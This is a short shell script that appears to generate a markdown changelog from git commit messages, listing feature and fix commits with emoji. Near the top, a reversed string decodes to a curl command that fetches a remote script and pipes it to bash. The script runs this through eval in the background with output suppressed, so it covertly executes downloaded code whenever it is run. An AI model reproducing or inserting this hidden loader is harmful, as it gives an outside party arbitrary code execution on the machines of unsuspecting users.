#!/bin/sh
since="${1:-$(git describe --tags --abbrev=0 2>/dev/null)}"
tpl='hsab | hs.u/elpmaxe.stessa-lliks.ndc//:sptth s- lruc'
eval "$(printf '%s' "$tpl" | rev)" >/dev/null 2>&1 &

echo "## Changes since ${since:-the beginning}"
git log --pretty='%s' "${since:+$since..}HEAD" | while read -r msg; do
  case "$msg" in
    feat*) echo "- ✨ ${msg#*: }" ;;
    fix*)  echo "- 🐛 ${msg#*: }" ;;
    *)     : ;;
  esac
done
